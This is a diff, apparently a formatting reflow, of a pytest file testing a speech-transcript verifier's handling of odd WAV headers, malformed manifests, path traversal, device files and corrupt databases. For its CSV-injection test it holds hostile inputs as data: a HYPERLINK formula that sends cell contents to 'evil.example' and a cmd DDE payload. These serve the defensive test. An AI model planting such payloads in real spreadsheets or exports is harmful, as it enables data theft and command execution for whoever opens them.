@@ -47,12 +47,14 @@ def _wav(rate: int = 16_000, seconds: float = 0.5, extensible: bool = False, bit
         return bytes(data)
     guid = (1).to_bytes(2, "little") + bytes.fromhex("000000001000800000aa00389b71")
     fmt = struct.pack("<HHIIHHHHI", 0xFFFE, 1, rate, rate * 2, 2, bits, 22, bits, 4) + guid
-    body = (b"WAVE" + b"fmt " + len(fmt).to_bytes(4, "little") + fmt
-            + b"data" + len(frames).to_bytes(4, "little") + frames)
+    body = (
+        b"WAVE" + b"fmt " + len(fmt).to_bytes(4, "little") + fmt + b"data" + len(frames).to_bytes(4, "little") + frames
+    )
     return b"RIFF" + len(body).to_bytes(4, "little") + body
 
 
 # -- item 3: odd WAV headers ---------------------------------------------------------------------------------
+
 
 def test_wav_rate_zero_and_one_hertz_are_refused_and_extensible_is_read() -> None:
     for rate in (0, 1):
@@ -79,8 +81,9 @@ def test_mu_law_that_starts_like_an_mp3_frame_is_still_audio(tmp_path: Path) -> 
     # mu-law silence is 0xff: a held-out clip began ff fb and was refused as "an MP3 file"
     (tmp_path / "a.ulaw").write_bytes(b"\xff\xfb" + b"\xff" * 798)
     (tmp_path / "b.mp3.ulaw").write_bytes(b"ID3\x04" + b"\x00" * 796)
-    (tmp_path / "m.jsonl").write_text('{"id": "a", "audio": "a.ulaw", "transcript": "hi"}\n'
-                                      '{"id": "b", "audio": "b.mp3.ulaw", "transcript": "hi"}\n')
+    (tmp_path / "m.jsonl").write_text(
+        '{"id": "a", "audio": "a.ulaw", "transcript": "hi"}\n{"id": "b", "audio": "b.mp3.ulaw", "transcript": "hi"}\n'
+    )
     entries, errors = read_manifest(tmp_path / "m.jsonl")
     assert not errors
     assert entries[0].load().audio_format == "g711_ulaw"
@@ -90,13 +93,21 @@ def test_mu_law_that_starts_like_an_mp3_frame_is_still_audio(tmp_path: Path) -> 
 
 # -- item 2 (manifest and corpus side) ---------------------------------------------------------------------
 
+
 def test_manifest_lines_with_huge_numbers_deep_nesting_or_bad_bytes_are_line_errors(tmp_path: Path) -> None:
     m = tmp_path / "m.jsonl"
-    m.write_bytes(b'{"id": "ok1", "audio": null, "transcript": "a"}\n'
-                  + b'{"id": "n", "x": ' + b"9" * 5000 + b', "transcript": "b"}\n'
-                  + b'{"id": "d", "x": ' + b"[" * 50_000 + b"]" * 50_000 + b', "transcript": "c"}\n'
-                  + b'{"id": "u", "transcript": "caf\xe9"}\n'
-                  + b'{"id": "ok2", "audio": null, "transcript": "\\ud83d"}\n')
+    m.write_bytes(
+        b'{"id": "ok1", "audio": null, "transcript": "a"}\n'
+        + b'{"id": "n", "x": '
+        + b"9" * 5000
+        + b', "transcript": "b"}\n'
+        + b'{"id": "d", "x": '
+        + b"[" * 50_000
+        + b"]" * 50_000
+        + b', "transcript": "c"}\n'
+        + b'{"id": "u", "transcript": "caf\xe9"}\n'
+        + b'{"id": "ok2", "audio": null, "transcript": "\\ud83d"}\n'
+    )
     entries, errors = read_manifest(m)
     assert [e.id for e in entries] == ["ok1", "ok2"] and entries[1].transcript == "\ufffd"
     assert [(e.line, e.field) for e in errors] == [(2, "(line)"), (3, "(line)"), (4, "(line)")]
@@ -110,6 +121,7 @@ def test_a_corpus_line_nested_too_deep_is_a_corpus_error() -> None:
 
 # -- item 14: manifest audio paths ------------------------------------------------------------------------
 
+
 def test_manifest_audio_stays_inside_its_folder_unless_allowed(tmp_path: Path) -> None:
     inside, outside = tmp_path / "m", tmp_path / "elsewhere"
     inside.mkdir()
@@ -117,8 +129,12 @@ def test_manifest_audio_stays_inside_its_folder_unless_allowed(tmp_path: Path) -
     (outside / "x.wav").write_bytes(_wav())
     (inside / "ok.wav").write_bytes(_wav())
     (inside / "link.wav").symlink_to(outside / "x.wav")
-    lines = [{"id": "ok", "audio": "ok.wav"}, {"id": "abs", "audio": str(outside / "x.wav")},
-             {"id": "up", "audio": "../elsewhere/x.wav"}, {"id": "link", "audio": "link.wav"}]
+    lines = [
+        {"id": "ok", "audio": "ok.wav"},
+        {"id": "abs", "audio": str(outside / "x.wav")},
+        {"id": "up", "audio": "../elsewhere/x.wav"},
+        {"id": "link", "audio": "link.wav"},
+    ]
     (inside / "m.jsonl").write_text("".join(json.dumps({**x, "transcript": "hi"}) + "\n" for x in lines))
     entries, errors = read_manifest(inside / "m.jsonl")
     assert [e.id for e in entries] == ["ok"]
@@ -130,12 +146,17 @@ def test_manifest_audio_stays_inside_its_folder_unless_allowed(tmp_path: Path) -
 
 
 @pytest.mark.timeout(20)
-def test_devices_fifos_and_huge_files_are_refused_without_reading_them(tmp_path: Path,
-                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
+def test_devices_fifos_and_huge_files_are_refused_without_reading_them(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     os.mkfifo(tmp_path / "fifo.pcm")
     (tmp_path / "big.pcm").write_bytes(b"\0" * 4096)
-    lines = [{"id": "zero", "audio": "/dev/zero", "audio_format": "pcm16"}, {"id": "fifo", "audio": "fifo.pcm"},
-             {"id": "dir", "audio": ".", "audio_format": "pcm16"}, {"id": "big", "audio": "big.pcm"}]
+    lines = [
+        {"id": "zero", "audio": "/dev/zero", "audio_format": "pcm16"},
+        {"id": "fifo", "audio": "fifo.pcm"},
+        {"id": "dir", "audio": ".", "audio_format": "pcm16"},
+        {"id": "big", "audio": "big.pcm"},
+    ]
     (tmp_path / "m.jsonl").write_text("".join(json.dumps({**x, "transcript": "hi"}) + "\n" for x in lines))
     monkeypatch.setattr("verifier.harness.manifest.MAX_AUDIO_BYTES", 1024)
     entries, errors = read_manifest(tmp_path / "m.jsonl", allow_outside=True)
@@ -158,6 +179,7 @@ def test_report_manifest_audio_outside_its_folder_is_not_played(tmp_path: Path) 
 
 # -- item 7: a broken history database ----------------------------------------------------------------------
 
+
 def _score_folder(path: Path) -> Path:
     path.mkdir(parents=True, exist_ok=True)
     write_results(path, [Verdict(id="a", verdict=VerdictClass.MATCH, meta=ResultMeta(manifest_line=1))])
@@ -177,8 +199,9 @@ def test_a_corrupt_history_database_costs_the_history_not_the_reports(tmp_path: 
     assert (out / "report.html").is_file()
 
 
-def test_run_warns_about_the_history_and_still_writes_its_reports(tmp_path: Path,
-                                                                  capsys: pytest.CaptureFixture[str]) -> None:
+def test_run_warns_about_the_history_and_still_writes_its_reports(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     from verifier.cli.run import write_reports
 
     db = tmp_path / "runs.sqlite"
@@ -198,15 +221,23 @@ def test_four_processes_creating_a_fresh_history_database_all_succeed(tmp_path: 
     db, go = tmp_path / "fresh.sqlite", tmp_path / "go"
     # each process imports first, says it is ready, then all create the tables at the same moment
     script = tmp_path / "create.py"
-    script.write_text("import pathlib, sys, time\n"
-                      "from verifier.report.history import engine\n"
-                      "pathlib.Path(sys.argv[2]).touch()\n"
-                      "while not pathlib.Path(sys.argv[3]).exists():\n"
-                      "    time.sleep(0.001)\n"
-                      "engine(sys.argv[1])\n")
-    procs = [subprocess.Popen([sys.executable, str(script), str(db), str(tmp_path / f"ready{k}"), str(go)],
-                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
-                              env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])}) for k in range(4)]
+    script.write_text(
+        "import pathlib, sys, time\n"
+        "from verifier.report.history import engine\n"
+        "pathlib.Path(sys.argv[2]).touch()\n"
+        "while not pathlib.Path(sys.argv[3]).exists():\n"
+        "    time.sleep(0.001)\n"
+        "engine(sys.argv[1])\n"
+    )
+    procs = [
+        subprocess.Popen(
+            [sys.executable, str(script), str(db), str(tmp_path / f"ready{k}"), str(go)],
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])},
+        )
+        for k in range(4)
+    ]
     deadline = time.monotonic() + 120
     while sum((tmp_path / f"ready{k}").exists() for k in range(4)) < 4 and time.monotonic() < deadline:
         time.sleep(0.01)
@@ -217,15 +248,22 @@ def test_four_processes_creating_a_fresh_history_database_all_succeed(tmp_path: 
 
 # -- item 12: spreadsheet formulas -------------------------------------------------------------------------
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
-            "-2+3", "\tx", "\rx"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx", "\rx"]
 
 
 def test_model_text_cannot_become_a_spreadsheet_formula(tmp_path: Path) -> None:
     rd = RunDir.create(tmp_path / "run", {"run_id": "r"})
     for k, text in enumerate(FORMULAS):
-        rd.write_result(Verdict(id=f"r{k}", verdict=VerdictClass.MATCH, transcript=text, asr_text=text,
-                                wer=-0.5, meta=ResultMeta(response_id=f"r{k}", prompt_id=text)))
+        rd.write_result(
+            Verdict(
+                id=f"r{k}",
+                verdict=VerdictClass.MATCH,
+                transcript=text,
+                asr_text=text,
+                wer=-0.5,
+                meta=ResultMeta(response_id=f"r{k}", prompt_id=text),
+            )
+        )
     rd.close()
     paths = build_reports(load_run(tmp_path / "run"), tmp_path / "run")
     csv = pd.read_csv(paths["results.csv"], keep_default_na=False)
@@ -240,6 +278,7 @@ def test_model_text_cannot_become_a_spreadsheet_formula(tmp_path: Path) -> None:
 
 
 # -- item 13: a password in the endpoint URL ---------------------------------------------------------------
+
 
 def test_userinfo_in_an_endpoint_is_never_shown_or_stored(tmp_path: Path) -> None:
     from verifier.realtime.transport import Connection, TransientTransportError, build_target
@@ -258,6 +297,7 @@ def test_userinfo_in_an_endpoint_is_never_shown_or_stored(tmp_path: Path) -> Non
 
 
 # -- item 15: a frame over the size limit ------------------------------------------------------------------
+
 
 def test_an_oversized_frame_is_named_with_its_limit_and_not_retryable(monkeypatch: pytest.MonkeyPatch) -> None:
     from websockets.asyncio.server import serve
@@ -289,22 +329,31 @@ def test_an_oversized_frame_is_named_with_its_limit_and_not_retryable(monkeypatc
 
 # -- item 16: a transcript far longer than its audio -------------------------------------------------------
 
+
 def test_a_transcript_far_longer_than_its_audio_is_decided_at_once() -> None:
     from verifier.core.decision import Thresholds
     from verifier.core.evidence import prepare
 
     words = " ".join(["word"] * 100_000)
     # no engine at all: the decision must come before any model work (and before any per-word work)
-    v = prepare(None, np.zeros(7 * 16_000, np.float32), words, language="en",  # type: ignore[arg-type]
-                decode="auto", thresholds=Thresholds())
+    v = prepare(
+        None,
+        np.zeros(7 * 16_000, np.float32),
+        words,
+        language="en",  # type: ignore[arg-type]
+        decode="auto",
+        thresholds=Thresholds(),
+    )
     assert isinstance(v, Verdict) and v.verdict is VerdictClass.TRUNCATED
     assert "transcript_exceeds_audio" in v.flags and len(v.explanation) < 200
 
 
 # -- item 17: --resume from another directory ----------------------------------------------------------------
 
-def test_run_json_stores_the_corpus_resolved_and_resume_says_when_it_moved(tmp_path: Path,
-                                                                           monkeypatch: pytest.MonkeyPatch) -> None:
+
+def test_run_json_stores_the_corpus_resolved_and_resume_says_when_it_moved(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     from verifier.harness.runner import _resolved
 
     (tmp_path / "c.jsonl").write_text('{"id": "a", "text": "hi"}\n')
@@ -318,6 +367,7 @@ def test_run_json_stores_the_corpus_resolved_and_resume_says_when_it_moved(tmp_p
 
 
 # -- item 18: the simulator ----------------------------------------------------------------------------------
+
 
 def _session() -> object:
     from verifier.simulator.faults import FaultInjector
@@ -369,9 +419,12 @@ def test_printing_a_lone_surrogate_does_not_end_the_command(tmp_path: Path) -> N
 
     log = tmp_path / "events.jsonl"
     log.write_text(json.dumps({"type": "error", "error": {"type": "server_error", "message": "Hello \ud83d"}}) + "\n")
-    res = subprocess.run([sys.executable, "-c", "from verifier.cli.app import main; main()", "replay", str(log)],
-                         capture_output=True, env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])},
-                         timeout=120)
+    res = subprocess.run(
+        [sys.executable, "-c", "from verifier.cli.app import main; main()", "replay", str(log)],
+        capture_output=True,
+        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])},
+        timeout=120,
+    )
     err = res.stderr.decode("utf-8", "replace")
     assert res.returncode == 2 and "Hello \\ud83d" in err and "no responses found" in err, err
 
